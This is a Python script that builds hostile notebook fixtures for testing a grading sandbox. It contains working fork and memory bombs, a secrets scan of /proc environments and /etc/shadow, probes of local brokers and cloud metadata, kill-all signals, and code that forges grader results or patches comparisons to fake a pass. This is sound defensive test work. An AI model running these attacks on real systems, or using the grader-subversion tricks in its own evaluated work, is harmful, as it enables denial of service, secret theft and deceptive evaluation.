"""Write the hostile submissions: notebooks that attack the worker, the sandbox or the grader.

Run from the repository root after changing any case here:

    .venv/bin/python notebooks/softmax/build_hostile.py

It writes `fixtures/hostile/<case>.ipynb` and `fixtures/hostile/cases.json` (what each case
tries, where, and the verdict it must end with). tests/runner/test_hostile.py runs every case
through `runner.pipeline.run_job` in the real sandbox; docs/security.md lists the verdicts.

Each attack runs either in a notebook cell ("notebook": in the kernel, under nbclient) or in
the graded `softmax` function ("graded": in the candidate child, only when the grader calls
it). Probes that try something and carry on end by raising `Probe` with a one-line summary of
what they managed, so the verdict itself says whether the attack got anywhere.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

sys.path.insert(0, str(Path(__file__).resolve().parent))
from build_fixtures import (  # noqa: E402 - the sibling script, run from anywhere
    NAIVE_OVERFLOW,
    REFERENCE_SOLUTION,
    STARTER_SOLUTION,
    WRONG_DIM,
    build,
)

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"

PROBE = '''\
class Probe(Exception):
    """How this probe ended: the message is the verdict a test reads."""
'''

# The graded function runs the attack once, on its first call (the grader's 1x1 case).
GRADED = """\
import sys

import torch

{probe}

def attack():
{attack}


def softmax(x: torch.Tensor) -> torch.Tensor:
    if "ipykernel" not in sys.modules:  # only in the grader's process, not in the notebook
        attack()
    out = torch.exp(x - x.amax(dim=-1, keepdim=True))
    return out / out.sum(dim=-1, keepdim=True)
"""

FORK_BOMB = """\
import os

# The classic: every process forks, forever.
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

FORK_BOMB_GRADED = """\
    import os
    import time

    children = 0
    while True:
        try:
            pid = os.fork()
        except OSError as exc:
            raise Probe(f"forked {children} processes, then fork failed: {exc.strerror}")
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
"""

MEMORY_BOMB = """\
import numpy as np

# 12 GiB in 256 MiB blocks, every page written (np.ones), so none of it is lazily unmapped.
hoard = []
for block in range(48):
    hoard.append(np.ones(256 << 20, dtype=np.uint8))
print("allocated", len(hoard) // 4, "GiB")
"""

MEMORY_BOMB_GRADED = """\
    import numpy as np

    hoard = []
    for block in range(48):
        hoard.append(np.ones(256 << 20, dtype=np.uint8))
    raise Probe(f"allocated {len(hoard) // 4} GiB")
"""

INFINITE_LOOP = """\
n = 0
while True:
    n += 1
"""

SLEEPS_FOREVER = """\
import time

while True:
    time.sleep(1)
"""

PRINTS_GIGABYTES = """\
import os

# 4 GiB through the kernel's stdout (to nbclient), and straight at the raw pipes.
chunk = "x" * (1 << 20)
for _ in range(4096):
    print(chunk)
    os.write(1, chunk.encode())
    os.write(2, chunk.encode())
"""

FILLS_DISK = (
    PROBE
    + """
import errno
import os

# Write until something stops us, everywhere we can write: the home and working folder, /tmp,
# /dev/shm (each a tmpfs of a fixed size), and a cache folder under home.
report = []
# Many small files first: each takes a page of a fixed-size tmpfs.
small = 0
try:
    os.makedirs("/tmp/many", exist_ok=True)
    for small in range(1_000_000):
        with open(f"/tmp/many/{small}", "w") as out:
            out.write("x")
except OSError as exc:
    report.append(f"small files: {small}, then {errno.errorcode[exc.errno]}")
for folder in ("/job", "/tmp", "/dev/shm", os.path.expanduser("~/.cache/filler")):
    written = 0
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "filler.bin"), "wb") as out:
            while written < (64 << 30):
                out.write(b"\\0" * (1 << 20))
                written += 1 << 20
            out.flush()
    except OSError as exc:
        report.append(f"{folder}: {written >> 20} MiB, then {errno.errorcode[exc.errno]}")
    else:
        report.append(f"{folder}: {written >> 20} MiB and no limit")
raise Probe("; ".join(report))
"""
)

WRITES_OUTSIDE = (
    PROBE
    + """
import os
import sys

targets = [
    "/hostile",
    "/usr/lib/hostile",
    "/etc/hostile",
    "/root/hostile",
    "/home/hostile",
    "/var/tmp/hostile",
    "/dev/hostile",
    "/proc/hostile",
    "/opt/inference-roadmap/runner/hostile.py",
    os.path.join(sys.prefix, "hostile"),
    os.path.join(os.path.dirname(os.__file__), "hostile.py"),
    os.path.join(os.path.dirname(os.path.dirname(os.__file__)), "hostile"),
    "/job/../hostile",
]
wrote, refused = [], []
for path in targets:
    try:
        with open(path, "w") as out:
            out.write("hostile")
        wrote.append(path)
    except OSError as exc:
        refused.append(f"{path} ({exc.strerror})")
try:
    os.chmod("/opt/inference-roadmap/runner", 0o777)
    wrote.append("chmod runner")
except OSError:
    pass
if wrote:
    raise Probe(f"WROTE OUTSIDE ITS FOLDERS: {wrote}")
raise Probe(f"wrote nothing outside its own folders ({len(refused)} attempts refused)")
"""
)

READS_SECRETS = (
    PROBE
    + """
import glob
import os
import sys

# The test plants decoys holding this word: in the worker's environment, in another job's
# folder, next to the job folders. Look everywhere this process can see.
DECOY = "hostile" + "-decoy"  # spelt in two parts, so this notebook itself does not match
# (/dev holds nothing to read and a pty master that blocks a reader.)
skip = ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)
found, read = [], 0
candidates = ["/proc/1/environ", "/proc/self/environ"]
candidates += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
    candidates += [os.path.join(root, name) for name in files]
for path in candidates:
    try:
        with open(path, "rb") as handle:
            data = handle.read(1 << 20)
    except OSError:
        continue
    read += 1
    if DECOY.encode() in data:
        found.append(path)
sensitive = [
    "/etc/shadow", "/etc/ssh", "/root/.ssh", "/root/.bash_history", "/home", "/var/lib",
    "/run/secrets", "/run/postgresql", "/var/run/redis", "/etc/celery",
    "/etc/inference-roadmap", "/opt/inference-roadmap/config",
    "/opt/inference-roadmap/notebooks", "/opt/inference-roadmap/var", "/sys/class/net",
]
visible = [p for p in sensitive if os.path.exists(p)]
if found or visible:
    raise Probe(f"FOUND SECRETS in {found}; sensitive paths visible: {visible}")
raise Probe(f"found no secret in {read} readable files; no sensitive path visible")
"""
)

NETWORK_ATTEMPTS = """\
import errno
import socket

targets = [
    ("1.1.1.1", 443, "the internet"),
    ("example.com", 80, "the internet by name"),
    ("127.0.0.1", 6379, "the Redis broker"),
    ("127.0.0.1", 5672, "the RabbitMQ broker"),
    ("127.0.0.1", 5432, "the PostgreSQL database"),
    ("169.254.169.254", 80, "a cloud metadata service"),
    ("::1", 6379, "Redis over IPv6"),
]
connected, failed = [], []
for host, port, what in targets:
    try:
        socket.create_connection((host, port), timeout=2).close()
        connected.append(what)
    except OSError as exc:
        name = errno.errorcode.get(exc.errno or 0, type(exc).__name__)
        failed.append(f"{what}: {name}")
for path in ("/run/postgresql/.s.PGSQL.5432", "/var/run/redis/redis-server.sock"):
    try:
        unix = socket.socket(socket.AF_UNIX)
        unix.settimeout(2)
        unix.connect(path)
        connected.append(path)
    except OSError as exc:
        failed.append(f"{path}: {errno.errorcode.get(exc.errno or 0, '?')}")
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    connected.append("UDP to 8.8.8.8")
except OSError as exc:
    failed.append(f"UDP: {errno.errorcode.get(exc.errno or 0, '?')}")
if connected:
    raise Probe(f"CONNECTED to {connected}")
raise Probe(f"no connection succeeded ({len(failed)} attempts: {'; '.join(failed)})")
"""

KILL_PARENT = """\
import os
import signal
import time

os.kill(os.getppid(), signal.SIGKILL)
time.sleep(30)
"""

KILL_ALL = """\
import os
import signal
import time

os.kill(-1, signal.SIGKILL)
time.sleep(30)
"""

KILL_ALL_GRADED = """\
    import os
    import signal

    seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    try:
        os.kill(-1, signal.SIGKILL)
        everyone = "killed whatever it could"
    except ProcessLookupError:
        everyone = "kill(-1) found no process it may signal"
    os.kill(os.getppid(), signal.SIGKILL)  # its parent is the sandbox's init: ignored
    raise Probe(f"sent SIGKILL to every process it could see (pids {seen}): {everyone}")
"""

DAEMON = """\
    import os
    import sys
    import time

    # Double fork and a new session: the grandchild belongs to no one we know of.
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            code = "import time\\nwhile True: time.sleep(1)  # hostile-daemon-marker"
            os.execv(sys.executable, [sys.executable, "-c", code])
        os._exit(0)
    os.waitpid(first, 0)
    time.sleep(0.5)
    raise Probe("started a daemon (double fork + setsid) that sleeps forever")
"""

LEFTOVERS = (
    PROBE
    + """
import os

# Leave something in every place a cache or scratch file could survive into the next job,
# and report what an earlier run of this notebook left.
places = [
    "/dev/shm/hostile-leftover",
    "/tmp/hostile-leftover",
    os.path.expanduser("~/.triton/cache/hostile-leftover"),
    os.path.expanduser("~/.cache/torch/hostile-leftover"),
    "/job/hostile-leftover",
]
found = [p for p in places if os.path.exists(p)]
for path in places:  # (POSIX shared memory is a file in /dev/shm, as the first one is)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as out:
        out.write("left by an earlier job")
raise Probe(f"leftovers of an earlier job: {found or 'none'}; left {len(places)} for the next")
"""
)

SYMLINKS = """\
import os

# Plant links (and a FIFO) where a careless grader would read or write: its old result files,
# the solution file, logs. Nothing here is read by the trusted side, and /job is the
# sandbox's own tmpfs.
links = {
    "/job/executed.ipynb": "/etc/passwd",
    "/job/execution.json": "/proc/self/environ",
    "/job/report.json": "/etc/shadow",
    "/job/solution.py": "/etc/passwd",
    "/job/logs": "/etc",
    "/job/candidate": "/",
    "/tmp/executor.log": "/etc/passwd",
}
for link, target in links.items():
    try:
        os.symlink(target, link)
    except OSError as exc:
        print("could not plant", link, exc)
os.mkfifo("/job/outcome.fifo")
print("planted", sorted(os.listdir("/job")))
"""

EXIT_IN_CELL = """\
import os

os._exit(0)
"""

MONKEYPATCH_BUILTINS = """\
import builtins
import math
import sys

import numpy
import torch

# In the grader's process: make every comparison, assertion and exit a no-op, then return
# zeros. The comparisons that count run in the worker, not here.
if "ipykernel" not in sys.modules:
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    builtins.abs = lambda x: 0
    builtins.all = lambda *a: True
    builtins.any = lambda *a: False
    math.isclose = lambda *a, **k: True
    math.isfinite = lambda *a, **k: True
    numpy.allclose = lambda *a, **k: True
    numpy.isclose = lambda a, b, *r, **k: numpy.ones_like(a, dtype=bool)
    numpy.array_equal = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    torch.allclose = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    sys.exit = lambda *a: None


def softmax(x: torch.Tensor) -> torch.Tensor:
    return torch.zeros_like(x)
"""

FAKE_RESULTS = """\
import json
import os

FAKE = {
    "schema": "inference-roadmap/report@1",
    "status": "passed",
    "message": "All criteria passed.",
    "criteria": [{"name": "correct", "passed": True}, {"name": "speed", "passed": True}],
}
# Results files wherever a grader might look, a forged progress line, a fake report printed.
for path in ("/job/report.json", "/job/execution.json", "/job/result.json", "/tmp/report.json"):
    with open(path, "w") as out:
        json.dump(FAKE | {"status": "ok"} if "execution" in path else FAKE, out)
os.write(1, b'@@inference-roadmap-progress {"stage":"done","status":"passed"}\\n')
print(json.dumps(FAKE))
"""

FORGES_CHANNEL = (
    PROBE
    + """
import ctypes
import json
import os

# Reach the executor's results channel (its parent, same user, same sandbox) three ways:
# reopen its descriptors through /proc, steal them with pidfd_getfd, or ptrace it. Write a
# forged result claiming a clean run into whatever it gets.
forged = json.dumps({"outcome": {"status": "ok", "message": "All cells ran.", "cells": 9},
                     "report": {"status": "passed"}}).encode()
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
reached, refused = [], []
try:
    descriptors = os.listdir(f"/proc/{parent}/fd")
except OSError as exc:
    descriptors = [str(n) for n in range(3, 64)]
    refused.append(f"listing its descriptors: {exc.strerror}")
for fd in descriptors:
    try:
        with open(f"/proc/{parent}/fd/{fd}", "wb", buffering=0) as channel:
            channel.write(forged)
        if fd not in ("0", "1", "2"):
            reached.append(f"reopened fd {fd}")
    except OSError:
        pass
try:
    pidfd = os.pidfd_open(parent)
    for fd in range(3, 64):
        stolen = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if stolen >= 0:
            try:
                os.write(stolen, forged)
                reached.append(f"stole fd {fd}")
            except OSError:
                pass
        elif ctypes.get_errno() != 9:  # EBADF: no such descriptor
            refused.append(f"pidfd_getfd: {os.strerror(ctypes.get_errno())}")
            break
except OSError as exc:
    refused.append(f"pidfd_open: {exc.strerror}")
if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
    reached.append("ptrace attached")
else:
    refused.append(f"ptrace: {os.strerror(ctypes.get_errno())}")
if reached:
    raise Probe(f"REACHED THE EXECUTOR: {reached}")
raise Probe(f"could not reach the executor's results channel ({'; '.join(refused)})")
"""
)

R_CELLS = [
    "library(ggplot2)\nsoftmax <- function(x) exp(x) / sum(exp(x))",
    "system('cat /etc/passwd')",
]


def _graded(attack: str) -> str:
    return GRADED.format(probe=PROBE.rstrip("\n"), attack=attack.rstrip("\n"))


def _cell(source: str):
    return [new_code_cell(source, id="hostile")]


def _other_language():
    cells = [new_code_cell(c, id=f"r-{i}") for i, c in enumerate(R_CELLS, start=1)]
    nb = build(STARTER_SOLUTION, after_solution=cells)
    nb.metadata = {
        "kernelspec": {"name": "ir", "display_name": "R", "language": "R"},
        "language_info": {"name": "R"},
    }
    return nb


def _protected_cells():
    nb = build(WRONG_DIM)
    for cell in nb.cells:
        if cell.get("id") == "overflow":
            # Edit a protected cell (and try to unlock it) so that, if it ran, the kernel died.
            cell.source = "import os\nos._exit(0)"
            cell.metadata = {"editable": True, "deletable": True}
    nb.cells = [c for c in nb.cells if c.get("id") != "self-check"]  # delete another one
    return nb


# name -> (where the attack runs, what it tries, notebook, expected status, text in the message)
def cases() -> dict[str, dict]:
    good = REFERENCE_SOLUTION

    def notebook_case(source: str, solution: str = good):
        return build(solution, after_solution=_cell(source))

    def first_cell(source: str):
        # First after the title, before the starter's own cells (which import torch): a case
        # meant to time out does so in its own cell however slowly torch loads on the node.
        nb = build(good)
        nb.cells.insert(1, _cell(source)[0])
        return nb

    table = {
        "fork_bomb": (
            "notebook",
            "fork bomb: every process forks forever",
            first_cell(FORK_BOMB),
            "timeout",
            "Cell 2 ran past",
        ),
        "fork_bomb_graded": (
            "graded",
            "forks until the process limit stops it",
            build(_graded(FORK_BOMB_GRADED)),
            "error",
            "forked",
        ),
        "memory_bomb": (
            "notebook",
            "allocates 12 GiB, every page written",
            notebook_case(MEMORY_BOMB),
            "error",
            "",
        ),
        "memory_bomb_graded": (
            "graded",
            "allocates 12 GiB when called",
            build(_graded(MEMORY_BOMB_GRADED)),
            "error",
            "",
        ),
        "infinite_loop": (
            "notebook",
            "a busy loop that never ends",
            first_cell(INFINITE_LOOP),
            "timeout",
            "Cell 2 ran past",
        ),
        "sleeps_forever": (
            "notebook",
            "sleeps forever",
            first_cell(SLEEPS_FOREVER),
            "timeout",
            "Cell 2 ran past",
        ),
        "prints_gigabytes": (
            "notebook",
            "prints 4 GiB to stdout, and to the raw stdout and stderr pipes",
            first_cell(PRINTS_GIGABYTES),
            "timeout",
            "Cell 2 ran past",
        ),
        "fills_disk": (
            "notebook",
            "writes until the disk is full, in every writable folder",
            notebook_case(FILLS_DISK),
            "error",
            "ENOSPC",
        ),
        "writes_outside": (
            "notebook",
            "writes to system, Python, runner and other folders",
            notebook_case(WRITES_OUTSIDE),
            "error",
            "wrote nothing outside its own folders",
        ),
        "reads_secrets": (
            "notebook",
            "reads /proc/*/environ, other jobs' files, settings and keys",
            notebook_case(READS_SECRETS),
            "error",
            "found no secret",
        ),
        "network": (
            "notebook",
            "connects to the internet, the brokers, the database, metadata",
            notebook_case(PROBE + "\n" + NETWORK_ATTEMPTS),
            "error",
            "no connection succeeded",
        ),
        "network_graded": (
            "graded",
            "the same connections from the graded function",
            build(_graded(_indent(NETWORK_ATTEMPTS))),
            "error",
            "no connection succeeded",
        ),
        "kill_parent": (
            "notebook",
            "SIGKILLs its parent (the executor)",
            notebook_case(KILL_PARENT),
            "error",
            "ended without a result",
        ),
        "kill_all": (
            "notebook",
            "os.kill(-1, SIGKILL): every process it can see",
            notebook_case(KILL_ALL),
            "error",
            "ended without a result",
        ),
        "kill_all_graded": (
            "graded",
            "os.kill(-1, SIGKILL) and its parent, from the graded function",
            build(_graded(KILL_ALL_GRADED)),
            "error",
            "sent SIGKILL to every process",
        ),
        "daemon": (
            "notebook",
            "double fork + setsid: a daemon that sleeps forever",
            notebook_case(PROBE + "\n\ndef attack():\n" + DAEMON + "\n\nattack()"),
            "error",
            "started a daemon",
        ),
        "daemon_graded": (
            "graded",
            "the same daemon from the graded function",
            build(_graded(DAEMON)),
            "error",
            "started a daemon",
        ),
        "leftovers": (
            "notebook",
            "leaves files in /dev/shm, /tmp, ~/.triton, ~/.cache and its folder",
            notebook_case(LEFTOVERS),
            "error",
            "leftovers of an earlier job: none",
        ),
        "symlinks": (
            "notebook",
            "plants symlinks and a FIFO where a grader might read or write",
            notebook_case(SYMLINKS, WRONG_DIM),
            "failed",
            "",
        ),
        "exit_in_cell": (
            "notebook",
            "os._exit(0) in a cell, to end the run early",
            notebook_case(EXIT_IN_CELL),
            "error",
            "The Python kernel died while running cell 6",
        ),
        "monkeypatch_builtins": (
            "graded",
            "patches builtins, assert, math, numpy and torch comparisons; returns zeros",
            build(MONKEYPATCH_BUILTINS),
            "failed",
            "",
        ),
        "fake_results": (
            "notebook",
            "writes report.json / execution.json claiming a pass, forges progress",
            notebook_case(FAKE_RESULTS, NAIVE_OVERFLOW),
            "failed",
            "",
        ),
        "forges_channel": (
            "notebook",
            "forges a result on the executor's channel: /proc reopen, pidfd_getfd, ptrace",
            notebook_case(FORGES_CHANNEL),
            "error",
            "could not reach the executor",
        ),
        "other_language": (
            "upload",
            "an R kernelspec with R cells",
            _other_language(),
            "rejected",
            "Python 3 only",
        ),
        "protected_cells": (
            "upload",
            "edits a protected cell into os._exit(0), deletes another",
            _protected_cells(),
            "failed",
            "",
        ),
    }
    return {
        name: {"place": place, "attack": attack, "notebook": nb, "status": status, "message": text}
        for name, (place, attack, nb, status, text) in table.items()
    }


def _indent(source: str) -> str:
    return "\n".join(("    " + line) if line else line for line in source.splitlines())


def main() -> None:
    HOSTILE.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for name, case in cases().items():
        nb = case.pop("notebook")
        nbformat.write(nb, HOSTILE / f"{name}.ipynb")
        manifest[name] = case
    (HOSTILE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
    print(f"wrote {len(manifest)} hostile notebooks and cases.json to {HOSTILE}")


if __name__ == "__main__":
    main()
